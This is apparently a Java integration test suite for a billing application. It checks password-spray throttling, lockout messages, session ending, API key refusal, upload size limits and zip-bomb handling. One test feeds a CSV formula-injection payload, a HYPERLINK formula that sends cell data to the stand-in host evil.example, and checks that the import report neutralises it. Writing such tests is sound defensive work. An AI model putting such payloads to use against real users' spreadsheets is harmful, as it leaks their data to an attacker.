package com.bizbill.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.bizbill.billing.BillingAccountService;
import com.bizbill.billing.ImportRun;
import com.bizbill.billing.InvoiceFileImport;
import com.bizbill.billing.PaymentMethod;
import com.bizbill.identity.AccountRecovery;
import com.bizbill.identity.IdentityService;
import com.bizbill.identity.InviteRow;
import com.bizbill.identity.MasterSignup;
import com.bizbill.identity.MasterSignupService;
import com.bizbill.identity.Organisation;
import com.bizbill.identity.OrganisationKind;
import com.bizbill.identity.SubMemberService;
import com.bizbill.identity.TwoStepLogin;
import com.bizbill.messaging.SandboxMessageGateway;
import com.bizbill.shared.error.BizbillException;
import com.bizbill.shared.error.ErrorCode;
import com.bizbill.shared.mail.Outbox;
import com.bizbill.shared.web.Uploads;
import jakarta.inject.Inject;
import jakarta.servlet.http.Part;
import java.io.ByteArrayOutputStream;
import java.io.InputStream;
import java.net.CookieManager;
import java.net.URI;
import java.net.URL;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.Collection;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Issue 14 §3 (login and sessions) and §5 (uploads and exports), reproduced as an attacker would: in
 * the container (each test makes its own organisations and members), talking to the running app over
 * HTTP with the JDK client. The test server trusts 127.0.0.1 as a proxy
 * ({@code bizbill.http.trusted-proxies}, arquillian.xml), so each test chooses its client addresses
 * with {@code X-Forwarded-For} and never throttles the other test classes' 127.0.0.1.
 */
@ExtendWith(ArquillianExtension.class)
class LoginSecurityIT {

    private static final String STRONG = "Strong!Pass1";
    private static final String FAILED = "아이디 또는 비밀번호가 올바르지 않습니다.";
    private static final String LOCKED = "계정이 잠겼습니다";
    private static final String BLOCKED = "이 위치에서 로그인 실패가 너무 많습니다";
    private static final Pattern LINK_TOKEN = Pattern.compile("token=([A-Za-z0-9_-]+)");

    @Deployment
    static WebArchive deployment() {
        return Deployments.application().addClasses(LoginSecurityIT.class, LoginSecurityIT.Web.class, JsfForm.class, Fixtures.class,
                Deployments.class);
    }

    @ArquillianResource
    URL url;

    @Inject
    Fixtures fixtures;

    @Inject
    IdentityService identity;

    @Inject
    BillingAccountService accounts;

    @Inject
    AccountRecovery recovery;

    @Inject
    MasterSignupService masters;

    @Inject
    SubMemberService subs;

    @Inject
    TwoStepLogin twoStep;

    @Inject
    Outbox outbox;

    @Inject
    SandboxMessageGateway messages;

    @Inject
    Uploads uploads;

    @Inject
    InvoiceFileImport invoiceImport;

    private String base;

    @BeforeEach
    void base() {
        base = Deployments.base(url);
    }

    private static String unique() {
        return UUID.randomUUID().toString().substring(0, 8);
    }

    private String lastToken(String to) {
        Matcher m = LINK_TOKEN.matcher(outbox.list(to, 0, 1).items().get(0).getBody());
        assertTrue(m.find());
        return m.group(1);
    }

    /** A billing-portal customer (no second step) with its own organisation; returns its login id. */
    private String customer() {
        String contact = "sec-" + unique() + "@example.com";
        accounts.register("보안고객 " + unique(), "본사", PaymentMethod.BANK_TRANSFER, contact, false);
        String loginId = "sec" + unique();
        accounts.completeSignup(lastToken(contact), loginId, STRONG, true, true);
        return loginId;
    }

    // ---------------------------------------------------------------- §3 login and sessions

    @Test
    void issue14SprayAcrossAccountsIsThrottledEvenWhenTheAttackerLogsIntoTheirOwnAccountBetweenTries()
            throws Exception {
        String attackerOwn = customer();
        String victim = customer();
        String attacker = "203.0.113.77";
        int sprayed = 0;
        for (int i = 0; i < 20; i++) { // bizbill.login.ip-max-failures = 20
            Web tries = new Web(base, attacker);
            assertTrue(tries.login("victim-" + i + "-" + unique(), "Guess!" + i).body().contains(FAILED));
            sprayed++;
            if (i < 19) {
                // the attacker's own successful login used to clear the address's count
                assertEquals(302, new Web(base, attacker).login(attackerOwn, STRONG).statusCode(), "own login " + i);
            }
        }
        assertEquals(20, sprayed);
        assertTrue(new Web(base, attacker).login(attackerOwn, STRONG).body().contains(BLOCKED),
                "the attacker's own account is no way round the throttle either");
        HttpResponse<String> next = new Web(base, attacker).login(victim, STRONG);
        assertEquals(200, next.statusCode(), "even the right password is refused from the throttled address");
        assertTrue(next.body().contains(BLOCKED), next.body());
        assertEquals(302, new Web(base, "203.0.113.78").login(victim, STRONG).statusCode(),
                "another address is not throttled");
    }

    @Test
    void issue14LockedUnknownAndWrongPasswordIdsGetTheSameAnswerAndTheOwnerIsNotLockedOut() throws Exception {
        String owner = customer();
        String unknown = "nobody" + unique();
        String stranger = "203.0.113.91";
        for (int i = 0; i < 5; i++) {
            String known = new Web(base, stranger).login(owner, "Wrong!Pass" + i).body();
            String none = new Web(base, stranger).login(unknown, "Wrong!Pass" + i).body();
            assertTrue(known.contains(FAILED) && none.contains(FAILED), "try " + i);
            assertFalse(known.contains(LOCKED) || none.contains(LOCKED), "try " + i);
            assertEquals(message(none), message(known), "try " + i);
        }
        // now locked from the stranger's address: the right password gets the same answer as an unknown id
        String locked = new Web(base, stranger).login(owner, STRONG).body();
        String lockedUnknown = new Web(base, stranger).login(unknown, STRONG).body();
        assertEquals(message(lockedUnknown), message(locked));
        assertTrue(locked.contains(FAILED) && !locked.contains(LOCKED), locked);
        // the owner, from their own address, is not locked out by the stranger
        assertEquals(302, new Web(base, "203.0.113.92").login(owner, STRONG).statusCode());
    }

    private static String message(String page) {
        Matcher m = Pattern.compile("(?s)id=\"login:messages\".*?</div>").matcher(page);
        return m.find() ? m.group().replaceAll("<[^>]+>", "").trim() : "";
    }

    @Test
    void issue14ASuspendedMembersOpenSessionIsEnded() throws Exception {
        // rule CB-MEM-5: the master suspends a sub-member; its open session ends at its next request
        String masterEmail = "secm-" + unique() + "@example.com";
        masters.sendEmailCode(masterEmail);
        Matcher code = Pattern.compile("(\\d{6})").matcher(outbox.list(masterEmail, 0, 1).items().get(0).getBody());
        assertTrue(code.find());
        String ticket = masters.verifyEmailCode(masterEmail, code.group(1)).orElseThrow();
        Organisation org = masters.signUp(new MasterSignup("220-81-62517", "보안쿠폰 " + unique(), "홍길동", masterEmail,
                ticket, STRONG, "010-1234-5678", true, true, com.bizbill.identity.PaymentType.PREPAID),
                new byte[] {(byte) 0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13});
        masters.approve(org.getId());
        long master = masters.masterOf(org.getId()).getId();
        String email = "secs-" + unique() + "@example.com";
        String mobile = "0105" + (1000000 + (int) (Math.random() * 8999999));
        subs.invite(master, List.of(new InviteRow(email, "정보안", mobile)));
        String token = lastToken(email);
        subs.sendMobileCode(token);
        Matcher sms = Pattern.compile("(\\d{6})").matcher(messages.sent(mobile, 0, 1).items().get(0).getBody());
        assertTrue(sms.find());
        subs.accept(token, sms.group(1), STRONG, true);
        long sub = subs.subMembers(master).stream().filter(s -> s.email().equals(email)).findFirst().orElseThrow().id();
        twoStep.setTwoStep(sub, false); // CB-MEM-3: the member switched the second step off

        Web session = new Web(base, "203.0.113.101");
        assertEquals(302, session.login(email, STRONG).statusCode());
        assertEquals(200, session.get("/portal/me.xhtml").statusCode(), "logged in");
        subs.setSuspended(master, sub, true);
        HttpResponse<String> after = session.get("/portal/me.xhtml");
        assertEquals(302, after.statusCode());
        assertTrue(after.headers().firstValue("Location").orElse("").contains("/login.xhtml"), after.headers().map()
                .toString());
        assertTrue(session.get("/portal/me.xhtml").headers().firstValue("Location").orElse("").contains("login"),
                "the session stays ended");
    }

    @Test
    void issue14AMembersSessionsAreEndedByAPasswordReset() throws Exception {
        // rule BP-ON-3: a password reset by link ends every session of the member, on every node (database epoch)
        String contact = "secr-" + unique() + "@example.com";
        accounts.register("보안고객 " + unique(), "본사", PaymentMethod.BANK_TRANSFER, contact, false);
        String loginId = "secr" + unique();
        accounts.completeSignup(lastToken(contact), loginId, STRONG, true, true);
        Web one = new Web(base, "203.0.113.111");
        Web two = new Web(base, "203.0.113.112");
        assertEquals(302, one.login(loginId, STRONG).statusCode());
        assertEquals(302, two.login(loginId, STRONG).statusCode());
        assertEquals(200, one.get("/portal/me.xhtml").statusCode());
        assertEquals(200, two.get("/portal/me.xhtml").statusCode());
        recovery.requestPasswordReset(loginId, contact);
        recovery.resetPassword(lastToken(contact), "Another!Pass2");
        for (Web w : List.of(one, two)) {
            HttpResponse<String> r = w.get("/portal/me.xhtml");
            assertEquals(302, r.statusCode());
            assertTrue(r.headers().firstValue("Location").orElse("").contains("/login.xhtml"));
        }
        Web fresh = new Web(base, "203.0.113.113");
        assertEquals(302, fresh.login(loginId, "Another!Pass2").statusCode());
        assertEquals(200, fresh.get("/portal/me.xhtml").statusCode(), "a login after the reset works");
    }

    @Test
    void issue14AnInactiveOrganisationsApiKeyIsRefusedWith401() throws Exception {
        Organisation active = identity.createOrganisation("보안 API " + unique(), OrganisationKind.CUSTOMER);
        String good = identity.issueApiKey(active.getId(), "ok");
        assertFalse(api(good).statusCode() == 401, "control: an active organisation's key is accepted");
        long customerOrg = fixtures.customer(com.bizbill.billing.PaymentMethod.BANK_TRANSFER, "보안", "seck-")[2];
        assertEquals(200, api(fixtures.apiKey(customerOrg, "control")).statusCode(), "control: a customer's key works");

        String masterEmail = "seca-" + unique() + "@example.com";
        masters.sendEmailCode(masterEmail);
        Matcher code = Pattern.compile("(\\d{6})").matcher(outbox.list(masterEmail, 0, 1).items().get(0).getBody());
        assertTrue(code.find());
        Organisation waiting = masters.signUp(new MasterSignup("220-81-62517", "보안쿠폰 " + unique(), "홍길동",
                masterEmail, masters.verifyEmailCode(masterEmail, code.group(1)).orElseThrow(), STRONG,
                "010-1234-5678", true, true, com.bizbill.identity.PaymentType.PREPAID),
                new byte[] {(byte) 0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13});
        String key = identity.issueApiKey(waiting.getId(), "early");
        assertEquals(401, api(key).statusCode(), "awaiting approval");
        masters.reject(waiting.getId(), "사업자등록증이 흐립니다");
        HttpResponse<String> rejected = api(key);
        assertEquals(401, rejected.statusCode(), "rejected");
        assertTrue(rejected.headers().firstValue("Content-Type").orElse("").contains("problem+json"));
    }

    private HttpResponse<String> api(String key) throws Exception {
        return HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(base + "/api/v1/ledger/balance"))
                .header("Authorization", "Bearer " + key).GET().build(), HttpResponse.BodyHandlers.ofString());
    }

    // ---------------------------------------------------------------- §5 uploads and exports

    /** A part whose declared size is unknown (-1) and whose stream never ends; counts what was read. */
    static final class EndlessPart implements Part {
        long read;

        @Override
        public InputStream getInputStream() {
            return new InputStream() {
                @Override
                public int read() {
                    read++;
                    return 'x';
                }

                @Override
                public int read(byte[] b, int off, int len) {
                    java.util.Arrays.fill(b, off, off + len, (byte) 'x');
                    read += len;
                    return len;
                }
            };
        }

        @Override
        public String getContentType() {
            return "text/csv";
        }

        @Override
        public String getName() {
            return "statement";
        }

        @Override
        public String getSubmittedFileName() {
            return "endless.csv";
        }

        @Override
        public long getSize() {
            return -1;
        }

        @Override
        public void write(String fileName) {
        }

        @Override
        public void delete() {
        }

        @Override
        public String getHeader(String name) {
            return null;
        }

        @Override
        public Collection<String> getHeaders(String name) {
            return List.of();
        }

        @Override
        public Collection<String> getHeaderNames() {
            return List.of();
        }
    }

    @Test
    void issue14AnOversizedUploadIsRefusedBeforeItIsReadWhole() throws Exception {
        EndlessPart endless = new EndlessPart();
        BizbillException e = assertThrows(BizbillException.class,
                () -> uploads.read(endless, Uploads.Kind.DATA_FILE, "statement"));
        assertEquals(ErrorCode.UPLOAD_TOO_LARGE, e.getCode());
        assertEquals(uploads.limit(Uploads.Kind.DATA_FILE) + 1, endless.read, "read stops at limit + 1 byte");

        // the bank-statement screen (it had no limit at all): limit + 1 bytes get the field message
        Web staff = new Web(base, null);
        assertEquals(302, staff.login(fixtures.staff("upload"), Fixtures.STAFF_PASSWORD).statusCode());
        byte[] big = new byte[(int) uploads.limit(Uploads.Kind.DATA_FILE) + 1];
        java.util.Arrays.fill(big, (byte) 'a');
        HttpResponse<String> r = staff.upload("/admin/bank.xhtml", "uploadForm", "uploadForm:statement",
                "uploadForm:send", big);
        assertEquals(200, r.statusCode());
        assertTrue(r.body().contains("파일이 너무 큽니다. 최대 10 MB까지 올릴 수 있습니다."), r.body());
    }

    @Test
    void issue14AZipBombXlsxIsRefused() throws Exception {
        byte[] bomb;
        try (XSSFWorkbook wb = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            XSSFSheet s = wb.createSheet("bomb");
            String a = "a".repeat(32_000);
            for (int i = 0; i < 200; i++) {
                s.createRow(i).createCell(0).setCellValue(a + i);
            }
            wb.write(out);
            bomb = out.toByteArray();
        }
        ImportRun run = invoiceImport.importFile(bomb, "bomb-" + unique() + ".xlsx", "FILE");
        assertEquals("REFUSED", run.getStatus());
        assertTrue(run.getReport().contains("zip-bomb guard"), run.getReport());
    }

    @Test
    void issue14AFormulaCellIsNeutralisedInTheImportReport() throws Exception {
        String evil = "=HYPERLINK(\"http://evil.example/\"&A1)" + unique();
        long account = fixtures.customer(com.bizbill.billing.PaymentMethod.BANK_TRANSFER, "보안", "secf-")[0];
        String file = "청구서번호,청구계정,청구월,발행일,납부기한,서비스,사용기간,공급가액\n"
                + "\"" + evil.replace("\"", "\"\"") + "\"," + account + ",2026-10,not-a-date,2026-10-31,x,2026-10,1\n"
                + "@SUM(1+1)" + unique() + "," + account + ",2026-10,not-a-date,2026-10-31,x,2026-10,1\n";
        ImportRun run = invoiceImport.importFile(file.getBytes(StandardCharsets.UTF_8), "evil.csv", "FILE");
        assertEquals("REFUSED", run.getStatus());
        Web staff = new Web(base, null);
        assertEquals(302, staff.login(fixtures.staff("report"), Fixtures.STAFF_PASSWORD).statusCode());
        HttpResponse<String> csv = staff.get("/admin/import-report?run=" + run.getId());
        assertEquals(200, csv.statusCode());
        for (String line : csv.body().split("\r?\n")) {
            for (String field : line.replace("\uFEFF", "").split(",")) {
                String f = field.startsWith("\"") ? field.substring(1) : field;
                assertFalse(f.startsWith("=") || f.startsWith("@") || f.startsWith("+"), "raw formula in: " + line);
            }
        }
        assertTrue(csv.body().contains("'=HYPERLINK"), csv.body());
        assertTrue(csv.body().contains("'@SUM"), csv.body());
    }

    // ---------------------------------------------------------------- HTTP

    /** One browser: its cookies, and the client address a trusted proxy reports for it (or none). */
    static final class Web {
        private final String base;
        private final String forwardedFor;
        private final HttpClient http;

        Web(String base, String forwardedFor) {
            this.base = base;
            this.forwardedFor = forwardedFor;
            this.http = HttpClient.newBuilder().cookieHandler(new CookieManager())
                    .followRedirects(HttpClient.Redirect.NEVER).build();
        }

        private HttpRequest.Builder request(String path) {
            HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(base + path));
            return forwardedFor == null ? b : b.header("X-Forwarded-For", forwardedFor);
        }

        HttpResponse<String> get(String path) throws Exception {
            return http.send(request(path).GET().build(), HttpResponse.BodyHandlers.ofString());
        }

        HttpResponse<String> login(String loginId, String password) throws Exception {
            String page = get("/login.xhtml").body();
            Map<String, String> form = new java.util.LinkedHashMap<>();
            form.put("login", "login");
            form.put("login:loginId", loginId);
            form.put("login:password", password);
            form.put("login:submit", "");
            form.putAll(JsfForm.hiddenFields(page));
            String body = form.entrySet().stream()
                    .map(e -> URLEncoder.encode(e.getKey(), StandardCharsets.UTF_8) + "="
                            + URLEncoder.encode(e.getValue(), StandardCharsets.UTF_8))
                    .collect(Collectors.joining("&"));
            HttpResponse<String> answer = http.send(request("/login.xhtml")
                    .header("Content-Type", "application/x-www-form-urlencoded; charset=UTF-8")
                    .POST(HttpRequest.BodyPublishers.ofString(body)).build(), HttpResponse.BodyHandlers.ofString());
            // a browser follows the login's redirect to its home page before it does anything else; a client
            // that fired its next request at once twice met a 403 in full runs (see the issue 15 closing note)
            String home = answer.headers().firstValue("Location").orElse("");
            for (int hop = 0; answer.statusCode() == 302 && !home.isEmpty() && !home.contains("/login") && hop < 3; hop++) {
                HttpResponse<String> next = http.send(HttpRequest.newBuilder(URI.create(base).resolve(home)).GET().build(),
                        HttpResponse.BodyHandlers.ofString());
                home = next.statusCode() == 302 ? next.headers().firstValue("Location").orElse("") : "";
            }
            return answer;
        }

        /** Posts a multipart JSF form with one file. */
        HttpResponse<String> upload(String path, String formId, String fileField, String button, byte[] content)
                throws Exception {
            String page = get(path).body();
            String boundary = "----bizbill" + UUID.randomUUID();
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            Map<String, String> fields = new java.util.LinkedHashMap<>();
            fields.put(formId, formId);
            fields.put(button, "");
            fields.putAll(JsfForm.hiddenFields(page));
            for (Map.Entry<String, String> f : fields.entrySet()) {
                out.write(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + f.getKey() + "\"\r\n\r\n"
                        + f.getValue() + "\r\n").getBytes(StandardCharsets.UTF_8));
            }
            out.write(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + fileField
                    + "\"; filename=\"big.csv\"\r\nContent-Type: text/csv\r\n\r\n").getBytes(StandardCharsets.UTF_8));
            out.write(content);
            out.write(("\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
            return http.send(request(path).header("Content-Type", "multipart/form-data; boundary=" + boundary)
                    .POST(HttpRequest.BodyPublishers.ofByteArray(out.toByteArray())).build(),
                    HttpResponse.BodyHandlers.ofString());
        }
    }
}
